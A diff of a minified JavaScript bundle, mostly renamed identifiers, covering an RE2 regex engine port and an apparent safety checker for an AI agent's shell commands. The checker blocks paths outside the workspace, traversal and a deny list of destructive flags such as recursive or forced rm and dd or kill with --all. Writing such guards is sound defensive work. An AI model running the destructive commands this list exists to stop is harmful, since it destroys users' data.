+s.prefilter=t.prefilter,s.namedGroups=t.namedGroups,s}static compile(e){return Is.compileImpl(e,oe.PERL,!1)}static compilePOSIX(e){
+return Is.compileImpl(e,oe.POSIX,!0)}static compileImpl(e,t,s){let r=Jr.parse(e,t);const i=r.maxCap(),o=r.namedGroups;r=
+em.simplify(r);const c=nT.build(r),l=Xp.compileRegexp(r),B=new Is(e,l,i,s);B.prefilter=c.type===st.Type.NONE?null:c;const[
 d,h]=l.prefix();return B.prefixComplete=d,B.prefix=h,B.prefixUTF8=xe.stringToUtf8ByteArray(B.prefix),B.prefix.length>0&&
-(B.prefixRune=B.prefix.codePointAt(0)),B.namedGroups=o,B}static match(e,t){return Ts.compile(e).match(t)}constructor(e,t,s=0,r=0){
+(B.prefixRune=B.prefix.codePointAt(0)),B.namedGroups=o,B}static match(e,t){return Is.compile(e).match(t)}constructor(e,t,s=0,r=0){
 this.expr=e,this.prog=t,this.numSubexp=s,this.longest=r,this.cond=t.startCond(),this.prefix=null,this.prefixUTF8=null,this.
 prefixComplete=!1,this.prefixRune=0,this.namedGroups=Object.create(null),this.machinePool=[],this.lazyDFA=null,this.onepass=
-Jp.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Zc(this.prog)),this.lazyDFA}matchPrefixComplete(e,t,s,r){
+Yp.compile(this.prog),this.prefilter=null}get dfa(){return this.lazyDFA===null&&(this.lazyDFA=new Wc(this.prog)),this.lazyDFA}matchPrefixComplete(e,t,s,r){
 if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return null;let i=-1,o=-1;const c=e.prefixLength(this);if(s===oe.UNANCHORED){
 const l=e.index(this,t);if(l<0)return null;i=t+l,o=i+c}else if(s===oe.ANCHOR_BOTH){if(e.endPos()!==c||e.index(this,0)!==
 0)return null;i=0,o=c}else if(s===oe.ANCHOR_START){if(e.index(this,0)!==0)return null;i=0,o=c}if(i<0)return null;if(r>0){
 const l=new Int32Array(r).fill(-1);return l[0]=i,l[1]=o,Array.from(l)}return[]}createLookbehindState(){return this.prog.
-numLb>0?new $S(this.prog):null}executeEngine(e,t,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.
+numLb>0?new JS(this.prog):null}executeEngine(e,t,s,r,i=null){if(this.prefixComplete&&(r===0||this.numSubexp===0))return this.
 matchPrefixComplete(e,t,s,r);if(this.prefilter!==null&&s===oe.UNANCHORED&&!this.prefilter.eval(e,t))return null;if(this.
-onepass!==null)return Jp.execute(this,e,t,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=Co.maxBitStateLen(this.prog)?
-Co.execute(this,e,t,s,r):this.doExecuteNFA(e,t,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,t,s);if(o!==null)
-return o?[]:null;if(e.endPos()<=Co.maxBitStateLen(this.prog))return Co.execute(this,e,t,s,r)}return this.doExecuteNFA(e,
+onepass!==null)return Yp.execute(this,e,t,s,r);if(r>0)return this.prog.numLb===0&&e.endPos()<=yo.maxBitStateLen(this.prog)?
+yo.execute(this,e,t,s,r):this.doExecuteNFA(e,t,s,r,i);if(this.prog.numLb===0){const o=this.dfa.match(e,t,s);if(o!==null)
+return o?[]:null;if(e.endPos()<=yo.maxBitStateLen(this.prog))return yo.execute(this,e,t,s,r)}return this.doExecuteNFA(e,
 t,s,r,i)}numberOfCapturingGroups(){return this.numSubexp}numberOfInstructions(){return this.prog.numInst()}get(){return this.
 machinePool.length>0?this.machinePool.pop():null}reset(){this.machinePool.length=0}put(e){this.machinePool.push(e)}toString(){
-return this.expr}doExecuteNFA(e,t,s,r,i=null){let o=this.get();o||(o=Gp.fromRE2(this)),o.init(r);const c=o.match(e,t,s,i)?
+return this.expr}doExecuteNFA(e,t,s,r,i=null){let o=this.get();o||(o=Zp.fromRE2(this)),o.init(r);const c=o.match(e,t,s,i)?
 o.submatches():null;return this.put(o),c}match(e){return this.executeEngine(vt.fromUTF16(e),0,oe.UNANCHORED,0)!==null}matchWithGroup(e,t,s,r,i,o=null){
-return e instanceof Ds||(xe.isByteArray(e)?e=xs.utf8(e):e=xs.utf16(e)),this.matchMachineInput(e,t,s,r,i,o)}matchMachineInput(e,t,s,r,i,o=null){
+return e instanceof xs||(xe.isByteArray(e)?e=Os.utf8(e):e=Os.utf16(e)),this.matchMachineInput(e,t,s,r,i,o)}matchMachineInput(e,t,s,r,i,o=null){
 if(t>s)return[!1,null];const c=e.isUTF16Encoding()?vt.fromUTF16(e.asCharSequence(),0,s):vt.fromUTF8(e.asBytes(),0,s),l=this.
 executeEngine(c,t,r,2*i,o);return l===null?[!1,null]:[!0,l]}matchUTF8(e){return this.executeEngine(vt.fromUTF8(e),0,oe.UNANCHORED,
 0)!==null}replaceAll(e,t){return this.replaceAllFunc(e,()=>t,2*e.length+1)}replaceFirst(e,t){return this.replaceAllFunc(
@@ -6923,19 +6947,19 @@ for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.slice(r[2*o],r[2*o+1]));return i})
 const s=this.allMatches(vt.fromUTF8(e),t);return s.length===0?null:s}findAllSubmatch(e,t){const s=this.allMatches(vt.fromUTF16(
 e),t,r=>{let i=new Array(r.length/2|0).fill(null);for(let o=0;o<i.length;o++)r[2*o]>=0&&(i[o]=e.substring(r[2*o],r[2*o+1]));
 return i});return s.length===0?null:s}findAllSubmatchIndex(e,t){const s=this.allMatches(vt.fromUTF16(e),t);return s.length===
-0?null:s}},sF=class Is{static UNANCHORED=oe.UNANCHORED;static ANCHOR_START=oe.ANCHOR_START;static ANCHOR_BOTH=oe.ANCHOR_BOTH;constructor(e=Is.
-UNANCHORED,t=0,s=8388608){if(![Is.UNANCHORED,Is.ANCHOR_START,Is.ANCHOR_BOTH].includes(e))throw new Np("The anchor should\
+0?null:s}},pF=class $s{static UNANCHORED=oe.UNANCHORED;static ANCHOR_START=oe.ANCHOR_START;static ANCHOR_BOTH=oe.ANCHOR_BOTH;constructor(e=$s.
+UNANCHORED,t=0,s=8388608){if(![$s.UNANCHORED,$s.ANCHOR_START,$s.ANCHOR_BOTH].includes(e))throw new Mp("The anchor should\
  be RE2Set.UNANCHORED, RE2Set.ANCHOR_START or RE2Set.ANCHOR_BOTH");xe.checkFlags(t),this.anchor=e,this.jsFlags=t,this.maxMem=
-s;let r=oe.PERL;(t&Kt.DISABLE_UNICODE_GROUPS)!==0&&(r&=~oe.UNICODE_GROUPS),(t&Kt.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND),this.
+s;let r=oe.PERL;(t&qt.DISABLE_UNICODE_GROUPS)!==0&&(r&=~oe.UNICODE_GROUPS),(t&qt.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND),this.
 re2Flags=r,this.regexps=[],this.prog=null,this.dfa=null,this.dummyRe2=null}add(e){if(this.prog)throw new zr("Cannot add \
-patterns after compile");xe.checkPattern(e);let t=e;(this.jsFlags&Kt.CASE_INSENSITIVE)!==0&&(t=`(?i)${t}`),(this.jsFlags&
-Kt.DOTALL)!==0&&(t=`(?s)${t}`),(this.jsFlags&Kt.MULTILINE)!==0&&(t=`(?m)${t}`);const s=Jr.parse(t,this.re2Flags);return this.
-regexps.push(qp.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=Kp.compileSet(this.regexps);if(e.
+patterns after compile");xe.checkPattern(e);let t=e;(this.jsFlags&qt.CASE_INSENSITIVE)!==0&&(t=`(?i)${t}`),(this.jsFlags&
+qt.DOTALL)!==0&&(t=`(?s)${t}`),(this.jsFlags&qt.MULTILINE)!==0&&(t=`(?m)${t}`);const s=Jr.parse(t,this.re2Flags);return this.
+regexps.push(em.simplify(s)),this.regexps.length-1}compile(){if(this.prog)return;const e=Xp.compileSet(this.regexps);if(e.
 numInst()>Jr.MAX_SIZE)throw new zr(`${Jr.ERR_LARGE}: the set compiles to ${e.numInst()} instructions, more than ${Jr.MAX_SIZE}`);
-this.prog=e,this.dfa=new Zc(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
+this.prog=e,this.dfa=new Wc(this.prog,this.maxMem),this.dummyRe2={prog:this.prog,cond:this.prog.startCond(),prefix:"",prefixRune:0,
 longest:!1}}match(e){this.prog||this.compile();const t=xe.isByteArray(e)?vt.fromUTF8(e):vt.fromUTF16(e);let s=oe.UNANCHORED;
-this.anchor===Is.ANCHOR_START?s=oe.ANCHOR_START:this.anchor===Is.ANCHOR_BOTH&&(s=oe.ANCHOR_BOTH);const r=this.dfa.matchSet(
-t,0,s);if(r!==null)return r;const i=Gp.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(t,0,s)}},qS=class sr{static isHexadecimal(e){
+this.anchor===$s.ANCHOR_START?s=oe.ANCHOR_START:this.anchor===$s.ANCHOR_BOTH&&(s=oe.ANCHOR_BOTH);const r=this.dfa.matchSet(
+t,0,s);if(r!==null)return r;const i=Zp.fromRE2(this.dummyRe2);return i.init(0),i.matchSet(t,0,s)}},aT=class sr{static isHexadecimal(e){
 return"0"<=e&&e<="9"||"A"<=e&&e<="F"||"a"<=e&&e<="f"}static translate(e){let t="";if(Object.prototype.toString.call(e)===
 "[object RegExp]"&&(e.ignoreCase&&(t+="i"),e.multiline&&(t+="m"),e.dotAll&&(t+="s"),e=e.source),typeof e!="string")return e;
 let s="",r=!1,i=e.length;i===0&&(s="(?:)",r=!0);let o=!1,c=0;for(;c<i;){let B=e[c];if(B==="\\"){if(c+1<i)switch(B=e[c+1],
@@ -6953,239 +6977,239 @@ charCount(g);s+=e.substring(c+1,c+1+C),c+=C+1,r=!0}else{s+="\\";let C=xe.charCou
 "/"){s+="\\/",c+=1,r=!0;continue}else if(B==="["){if(!o&&e[c+1]==="]"){s+="[^\\x00-\\x{10FFFF}]",c+=2,r=!0;continue}if(!o&&
 e[c+1]==="^"&&e[c+2]==="]"){s+="[\\x00-\\x{10FFFF}]",c+=3,r=!0;continue}o=!0}else if(B==="]")o=!1;else if(!o&&B==="("&&c+
 2<i&&e[c+1]==="?"&&e[c+2]==="<"&&c+3<i&&!"=!>)".includes(e[c+3])){s+="(?P<",c+=3,r=!0;continue}let d=e.codePointAt(c),h=xe.
-charCount(d);s+=e.substring(c,c+h),c+=h}const l=r?s:e;return t.length>0?`(?${t})${l}`:l}};const pm=(n,e)=>{const t=n.matchArray();
-return t.index=n.start(0),t.input=e,t.groups=n.namedGroupsObject(),t};var As=class jn{static CASE_INSENSITIVE=Kt.CASE_INSENSITIVE;static DOTALL=Kt.
-DOTALL;static MULTILINE=Kt.MULTILINE;static DISABLE_UNICODE_GROUPS=Kt.DISABLE_UNICODE_GROUPS;static LONGEST_MATCH=Kt.LONGEST_MATCH;static LOOKBEHINDS=Kt.
-LOOKBEHINDS;static quote(e){return xe.quoteMeta(e)}static quoteReplacement(e,t=!1){return jp.quoteReplacement(e,t)}static translateRegExp(e){
-return qS.translate(e)}static compile(e,t=0){xe.checkPattern(e),xe.checkFlags(t);let s=e;(t&jn.CASE_INSENSITIVE)!==0&&(s=
+charCount(d);s+=e.substring(c,c+h),c+=h}const l=r?s:e;return t.length>0?`(?${t})${l}`:l}};const wm=(n,e)=>{const t=n.matchArray();
+return t.index=n.start(0),t.input=e,t.groups=n.namedGroupsObject(),t};var Ss=class jn{static CASE_INSENSITIVE=qt.CASE_INSENSITIVE;static DOTALL=qt.
+DOTALL;static MULTILINE=qt.MULTILINE;static DISABLE_UNICODE_GROUPS=qt.DISABLE_UNICODE_GROUPS;static LONGEST_MATCH=qt.LONGEST_MATCH;static LOOKBEHINDS=qt.
+LOOKBEHINDS;static quote(e){return xe.quoteMeta(e)}static quoteReplacement(e,t=!1){return Up.quoteReplacement(e,t)}static translateRegExp(e){
+return aT.translate(e)}static compile(e,t=0){xe.checkPattern(e),xe.checkFlags(t);let s=e;(t&jn.CASE_INSENSITIVE)!==0&&(s=
 `(?i)${s}`),(t&jn.DOTALL)!==0&&(s=`(?s)${s}`),(t&jn.MULTILINE)!==0&&(s=`(?m)${s}`);let r=oe.PERL;(t&jn.DISABLE_UNICODE_GROUPS)!==
-0&&(r&=~oe.UNICODE_GROUPS),(t&jn.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND);const i=new jn(e,t);return i.re2Input=KS.compileImpl(
+0&&(r&=~oe.UNICODE_GROUPS),(t&jn.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND);const i=new jn(e,t);return i.re2Input=oT.compileImpl(
 s,r,(t&jn.LONGEST_MATCH)!==0),i}static matches(e,t){return jn.compile(e).testExact(t)}static initTest(e,t,s){if(e==null)
 throw new Error("pattern is null");if(s==null)throw new Error("re2 is null");const r=new jn(e,t);return r.re2Input=s,r}constructor(e,t){
 this.patternInput=e,this.flagsInput=t,this.re2Input=null}reset(){this.re2Input.reset()}flags(){return this.flagsInput}pattern(){
 return this.patternInput}re2(){return this.re2Input}matches(e){return this.testExact(e)}matcher(e){return xe.isByteArray(
-e)&&(e=xs.utf8(e)),new jp(this,e)}test(e){return xe.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
+e)&&(e=Os.utf8(e)),new Up(this,e)}test(e){return xe.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
 const t=xe.isByteArray(e)?vt.fromUTF8(e):vt.fromUTF16(e);return this.re2Input.executeEngine(t,0,oe.ANCHOR_BOTH,0)!==null}exec(e){
-const t=this.matcher(e);return t.find()?pm(t,e):null}split(e,t=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
+const t=this.matcher(e);return t.find()?wm(t,e):null}split(e,t=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
 if(o===0&&s.end()===0){o=s.end();continue}if(t>0&&r.length===t-1)break;if(o===s.start()){if(t===0){i+=1,o=s.end();continue}}else
 for(;i>0;)r.push(""),i-=1;r.push(s.substring(o,s.start())),o=s.end()}if(t===0&&o!==s.inputLength()){for(;i>0;)r.push(""),
 i-=1;r.push(s.substring(o,s.inputLength()))}return(t!==0||r.length===0&&!(o===s.inputLength()&&o>0))&&r.push(s.substring(
-o,s.inputLength())),r}*matchAll(e){const t=this.matcher(e);for(;t.find();)yield pm(t,e)}toString(){return this.patternInput}programSize(){
+o,s.inputLength())),r}*matchAll(e){const t=this.matcher(e);for(;t.find();)yield wm(t,e)}toString(){return this.patternInput}programSize(){
 return this.re2Input.numberOfInstructions()}groupCount(){return this.re2Input.numberOfCapturingGroups()}namedGroups(){return this.
 re2Input.namedGroups}equals(e){return this===e?!0:e===null||this.constructor!==e.constructor?!1:this.flagsInput===e.flagsInput&&
-this.patternInput===e.patternInput}};function rF(n,...e){if(Array.isArray(n)&&"raw"in n){const s=String.raw(n,...e);return As.
-compile(s)}const t=typeof n=="number"?n:0;return(s,...r)=>{const i=String.raw(s,...r);return As.compile(i,t)}}const mm=1e3;
-function gm(n,{ignoreCase:e,multiline:t,dotAll:s}={}){if(n.length>mm)return{error:`is longer than ${mm} characters`};try{
-const r=As.compile(n,(e?As.CASE_INSENSITIVE:0)|(t?As.MULTILINE:0)|(s?As.DOTALL:0));return{matches:i=>r.test(i)}}catch(r){
-return{error:r.message}}}const YS=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,VS=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
-function QS(n){const e=YS.exec(n);if(e===null)return;const[,t="",s=""]=e,r=[];let i=e.indices?.[2]?.[0]??0,o=s;for(;o!==
-"";){const c=VS.exec(o);if(c===null)return;const[l,B,d]=c;r.push({text:B??d??"",span:{start:i,end:i+l.length}}),o=o.slice(
-l.length),i+=l.length}return{name:t,args:r}}const XS=(n,e,t)=>t.proposal.tool==="runpy"?aT(n,e,t):eT(n,yp(e,n),t);function eT(n,e,t){
-const{families:s,patterns:r,disabled_packs:i}=t.policy,o=new Fc(t),c=Pn(n.command),l=k=>k.map(E=>Cm(E,s,i)),B=l(Ln(c)),d=k=>B.
-flatMap(E=>{const x=km(E);return r.filter(D=>D.layer===k&&vm(D.regex,x)).map(({name:D,regex:P,reason:z})=>(0,at.gk)("cus\
-tom_pattern",{name:D,pattern:P,reason:z},{layer:k}))}),h=[()=>tT(n,c),()=>l(nT(n,t.mount,o,B)).flatMap(k=>sT(k,o)),()=>B.
-flatMap(oT)];for(const[k,E]of h.entries()){const x=[...E(),...d(k+1)];if(x.length>0)return{findings:[...wp(x,1),...e.filter(
-qc)]}}const g=B.map(({read:k})=>k.use),C=new Set(g.flatMap(fp)),y=[...e,...[...C].map(k=>(0,at.gk)(k,{}))],_=_c.options.
-findLast(k=>g.some(E=>E.risk===k));return _===void 0||_==="safe"||y.some(qc)?{findings:y}:{findings:y,risk:_}}function Cm(n,e,t){
-const[s,...r]=n.words,i=Xh("workspace",s?.text??"",e),o=i&&!t.includes(i.family.category)?i:void 0;return{command:n,program:o,
-read:hp(r,o??{})}}function tT({targets:n},e){const t=n.flatMap(({script:s})=>s===void 0?[]:[s]);return[...Mr(e).map(s=>ym(
-s,!0)),...t.flatMap(s=>Mr(Pn(s))).map(s=>ym(s,!1))]}function ym({name:n,pattern:e,words:t},s){const r=t[0]?.span.start,i=t.
-at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,at.gk)(n,{pattern:bm(e)},o)}const wm=200;
-function bm(n){return n.length>wm?`${n.slice(0,wm)}\u2026`:n}function nT({command:n},{tree:e,at:t},{cwd:s},r){return e!==
-void 0&&t!=="/"&&t===s&&r.length===1?Ln(Pn(n,e)):r.map(o=>o.command)}function qc({severity:n}){return n==="error"}function _m({
-program:n,read:e}){const t=n===void 0?[]:e.values;return new Set(t.flatMap(({kind:s,word:r})=>Dh.has(s)?[]:r))}const Em=new Map;
-function vm(n,e){const t=Em.get(n)??gm(n);return Em.set(n,t),"error"in t||t.matches(e)}function iF(n,e,t){return everyCommand(
-readShellText(n)).some(s=>vm(e,km(Cm(s,t,[]))))}function km(n){const{words:e,redirections:t}=n.command,s=_m(n);return[...e.
-filter(r=>!s.has(r)).map(({text:r})=>r),...t.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(" ")}function sT(n,e){
-const{words:t,redirections:s,problems:r}=n.command,i=_m(n),o=r.filter(({rule:l})=>l==="variable-expansion"),c=s.flatMap(
+this.patternInput===e.patternInput}};function mF(n,...e){if(Array.isArray(n)&&"raw"in n){const s=String.raw(n,...e);return Ss.
+compile(s)}const t=typeof n=="number"?n:0;return(s,...r)=>{const i=String.raw(s,...r);return Ss.compile(i,t)}}const bm=1e3;
+function _m(n,{ignoreCase:e,multiline:t,dotAll:s}={}){if(n.length>bm)return{error:`is longer than ${bm} characters`};try{
+const r=Ss.compile(n,(e?Ss.CASE_INSENSITIVE:0)|(t?Ss.MULTILINE:0)|(s?Ss.DOTALL:0));return{matches:i=>r.test(i)}}catch(r){
+return{error:r.message}}}const cT=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,uT=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
+function lT(n){const e=cT.exec(n);if(e===null)return;const[,t="",s=""]=e,r=[];let i=e.indices?.[2]?.[0]??0,o=s;for(;o!==
+"";){const c=uT.exec(o);if(c===null)return;const[l,B,d]=c;r.push({text:B??d??"",span:{start:i,end:i+l.length}}),o=o.slice(
+l.length),i+=l.length}return{name:t,args:r}}const dT=(n,e,t)=>t.proposal.tool==="runpy"?yT(n,e,t):BT(n,vp(e,n),t);function BT(n,e,t){
+const{families:s,patterns:r,disabled_packs:i}=t.policy,o=new Pc(t),c=Pn(n.command),l=k=>k.map(E=>Em(E,s,i)),B=l(Ln(c)),d=k=>B.
+flatMap(E=>{const x=Sm(E);return r.filter(D=>D.layer===k&&Am(D.regex,x)).map(({name:D,regex:P,reason:z})=>(0,at.gk)("cus\
+tom_pattern",{name:D,pattern:P,reason:z},{layer:k}))}),h=[()=>fT(n,c),()=>l(hT(n,t.mount,o,B)).flatMap(k=>pT(k,o)),()=>B.
+flatMap(CT)];for(const[k,E]of h.entries()){const x=[...E(),...d(k+1)];if(x.length>0)return{findings:[...kp(x,1),...e.filter(
+Yc)]}}const g=B.map(({read:k})=>k.use),C=new Set(g.flatMap(Cp)),y=[...e,...[...C].map(k=>(0,at.gk)(k,{}))],_=Ec.options.
+findLast(k=>g.some(E=>E.risk===k));return _===void 0||_==="safe"||y.some(Yc)?{findings:y}:{findings:y,risk:_}}function Em(n,e,t){
+const[s,...r]=n.words,i=rp("workspace",s?.text??"",e),o=i&&!t.includes(i.family.category)?i:void 0;return{command:n,program:o,
+read:yp(r,o??{})}}function fT({targets:n},e){const t=n.flatMap(({script:s})=>s===void 0?[]:[s]);return[...Mr(e).map(s=>vm(
+s,!0)),...t.flatMap(s=>Mr(Pn(s))).map(s=>vm(s,!1))]}function vm({name:n,pattern:e,words:t},s){const r=t[0]?.span.start,i=t.
+at(-1)?.span.end,o=s&&r!==void 0&&i!==void 0?{span:{start:r,end:i}}:{};return(0,at.gk)(n,{pattern:Dm(e)},o)}const km=200;
+function Dm(n){return n.length>km?`${n.slice(0,km)}\u2026`:n}function hT({command:n},{tree:e,at:t},{cwd:s},r){return e!==
+void 0&&t!=="/"&&t===s&&r.length===1?Ln(Pn(n,e)):r.map(o=>o.command)}function Yc({severity:n}){return n==="error"}function xm({
+program:n,read:e}){const t=n===void 0?[]:e.values;return new Set(t.flatMap(({kind:s,word:r})=>Th.has(s)?[]:r))}const Om=new Map;
+function Am(n,e){const t=Om.get(n)??_m(n);return Om.set(n,t),"error"in t||t.matches(e)}function gF(n,e,t){return everyCommand(
+readShellText(n)).some(s=>Am(e,Sm(Em(s,t,[]))))}function Sm(n){const{words:e,redirections:t}=n.command,s=xm(n);return[...e.
+filter(r=>!s.has(r)).map(({text:r})=>r),...t.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(" ")}function pT(n,e){
+const{words:t,redirections:s,problems:r}=n.command,i=xm(n),o=r.filter(({rule:l})=>l==="variable-expansion"),c=s.flatMap(
 ({target:l})=>l??[]);return[...t.slice(1).filter(l=>!i.has(l)),...c].flatMap(({text:l,span:B})=>{const d=o.some(({span:h})=>h.
-start>=B.start&&h.end<=B.end);return[l,...rT(l)].flatMap(h=>Dm(h,B,e,d))})}function rT(n){if(!n.startsWith("-"))return[];
-const{attached:e}=La(n);return[...e?[e]:[],.../^-[^-]./.test(n)?[n.slice(2)]:[]]}function Dm(n,e,t,s=!1){const r=s||n.startsWith(
+start>=B.start&&h.end<=B.end);return[l,...mT(l)].flatMap(h=>Tm(h,B,e,d))})}function mT(n){if(!n.startsWith("-"))return[];
+const{attached:e}=ja(n);return[...e?[e]:[],.../^-[^-]./.test(n)?[n.slice(2)]:[]]}function Tm(n,e,t,s=!1){const r=s||n.startsWith(
 "~")?void 0:t.locate(n);return r===void 0||!t.isIn(r,t.workspace)?[(0,at.gk)("path_outside_workspace",{path:n},{span:e})]:
-n.split(/[\\/]/).includes("..")?[(0,at.gk)("path_traversal",{path:n},{span:e})]:[]}const iT=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
-[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function oT({command:n,program:e,read:t}){const[s,...r]=n.words;
-if(s===void 0)return[];const{text:i}=s,o=iT.flatMap(([B,d])=>B.test(i)?[d]:[]),c=r.filter(({text:B})=>o.some(d=>d.test(B)));
+n.split(/[\\/]/).includes("..")?[(0,at.gk)("path_traversal",{path:n},{span:e})]:[]}const gT=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
+[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function CT({command:n,program:e,read:t}){const[s,...r]=n.words;
+if(s===void 0)return[];const{text:i}=s,o=gT.flatMap(([B,d])=>B.test(i)?[d]:[]),c=r.filter(({text:B})=>o.some(d=>d.test(B)));
 return c.length>0?c.map(({text:B,span:d})=>(0,at.gk)("blocked_flag",{program:i,flag:B},{span:d})):r.length===1&&e&&/^--(?:version|help)$/.
 test(r[0]?.text??"")?[]:(e?t.objections:[{objection:"is not allowed",word:s}]).map(({objection:B,word:d=s})=>(0,at.gk)("\
-command_not_allowed",{program:i,objection:B},{span:d.span}))}function aT({command:n},e,t){const s=e.filter(({rule:c})=>(0,hs.
-Y)(c).anyText===!0),r=QS(n),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const c=bm(r?.name??n);return{findings:[
+command_not_allowed",{program:i,objection:B},{span:d.span}))}function yT({command:n},e,t){const s=e.filter(({rule:c})=>(0,hs.
+Y)(c).anyText===!0),r=lT(n),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const c=Dm(r?.name??n);return{findings:[
 (0,at.gk)("command_not_allowed",{program:c,objection:"is not a call of a file tool with literal arguments"}),...s]}}const o=[
-...Dm(i.text,i.span,new Fc(t)),...s];return o.some(qc)?{findings:o}:{findings:o,risk:"write"}}function cT(n,e,t){const s=bp(
-n),r=l=>pT[l](n,s,t),i=r("evolver"),o=r("validator"),c={evolver:i,validator:o}[e]??r(e);return Yc(n,e,c,{evolver:i,validator:o})}
-function uT(n,e){const t=e.find(({args:r})=>r.of==="newer");return{"1.94":n,newer:t?{verdict:"block",reason:t}:n}}function lT(n,e,t){
-const s={findings:Vc(bp(n))},r={evolver:s,validator:s};return Yc(n,"curated",Dp(e,t),r)}function dT(n,e,t){const s=typeof n==
-"string"?n:"",r=[(0,at.be)(`the command \`${s}\``,t)];return Yc({command:s,words:[],assignments:[],argv:null,targets:[],
-problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function Yc(n,e,t,s){const r=BT(n,Vc(t.findings)),
-i=xm(r),o=l=>l===t?i:xm(Vc(l.findings)),c=o(s.validator);return{reading:n,verdict:i.verdict,risk:t.risk??hT(i.verdict,r),
-confirmation:t.confirmation??"standard",findings:r,profiles:{evolver:o(s.evolver),validator:c,[e]:i},validators:uT(c,s.validator.
-findings)}}function BT({command:n},e){const t=e[0]?.severity==="error"?lp(n):void 0;return t===void 0?e:e.map(s=>s.severity===
-"error"?{...s,harm:"danger",danger:t}:s)}function xm(n){const e=fT(n),[t]=n;if(e==="block"&&t)return{verdict:e,reason:t};
-const s=n.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}function fT(n){return n.
+...Tm(i.text,i.span,new Pc(t)),...s];return o.some(Yc)?{findings:o}:{findings:o,risk:"write"}}function wT(n,e,t){const s=Dp(
+n),r=l=>xT[l](n,s,t),i=r("evolver"),o=r("validator"),c={evolver:i,validator:o}[e]??r(e);return Vc(n,e,c,{evolver:i,validator:o})}
+function bT(n,e){const t=e.find(({args:r})=>r.of==="newer");return{"1.94":n,newer:t?{verdict:"block",reason:t}:n}}function _T(n,e,t){
+const s={findings:Qc(Dp(n))},r={evolver:s,validator:s};return Vc(n,"curated",Tp(e,t),r)}function ET(n,e,t){const s=typeof n==
+"string"?n:"",r=[(0,at.be)(`the command \`${s}\``,t)];return Vc({command:s,words:[],assignments:[],argv:null,targets:[],
+problems:[]},e,{findings:r},{evolver:{findings:r},validator:{findings:r}})}function Vc(n,e,t,s){const r=vT(n,Qc(t.findings)),
+i=Im(r),o=l=>l===t?i:Im(Qc(l.findings)),c=o(s.validator);return{reading:n,verdict:i.verdict,risk:t.risk??DT(i.verdict,r),
+confirmation:t.confirmation??"standard",findings:r,profiles:{evolver:o(s.evolver),validator:c,[e]:i},validators:bT(c,s.validator.
+findings)}}function vT({command:n},e){const t=e[0]?.severity==="error"?pp(n):void 0;return t===void 0?e:e.map(s=>s.severity===
+"error"?{...s,harm:"danger",danger:t}:s)}function Im(n){const e=kT(n),[t]=n;if(e==="block"&&t)return{verdict:e,reason:t};
+const s=n.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}function kT(n){return n.
 some(({severity:t})=>t==="error")?"block":n.some(({severity:t,rule:s})=>t==="warning"&&s!=="experimental_mode")?"warn":"\
-allow"}function hT(n,e){return n==="block"?"dangerous":e.some(({rule:t})=>(0,hs.Y)(t).writes===!0)?"write":"safe"}function Vc(n){
-return Ws.oC.flatMap(e=>n.filter(({severity:t})=>t===e))}const pT={evolver:ES,validator:DS,curated:_p,workspace:XS},mT=4e3;
+allow"}function DT(n,e){return n==="block"?"dangerous":e.some(({rule:t})=>(0,hs.Y)(t).writes===!0)?"write":"safe"}function Qc(n){
+return Ks.oC.flatMap(e=>n.filter(({severity:t})=>t===e))}const xT={evolver:NS,validator:LS,curated:xp,workspace:dT},OT=4e3;
 class Wr{terms;context;clock;#e=new Map;#t=new Map;constructor(e,t,s){this.terms=e,this.context=t,this.clock=s}static by(e){
-const t=Nc(e,{});return new Wr(e,t,e.clock??new fO(e.signal))}with(e){const t={...this.terms,...e},s=Nc(t,this.context.proposal);
-return new Wr(t,s,this.clock)}proposed(e){return new Wr(this.terms,Nc(this.terms,e),this.clock)}storeOf(e){const{cwd:t}=this.
-terms,s=Ld(e,this.terms);return t===void 0?s:{...s,root:t}}forFile(e){return this.startingIn(this.storeOf(e).root)}startingIn(e){
+const t=Fc(e,{});return new Wr(e,t,e.clock??new kO(e.signal))}with(e){const t={...this.terms,...e},s=Fc(t,this.context.proposal);
+return new Wr(t,s,this.clock)}proposed(e){return new Wr(this.terms,Fc(this.terms,e),this.clock)}storeOf(e){const{cwd:t}=this.
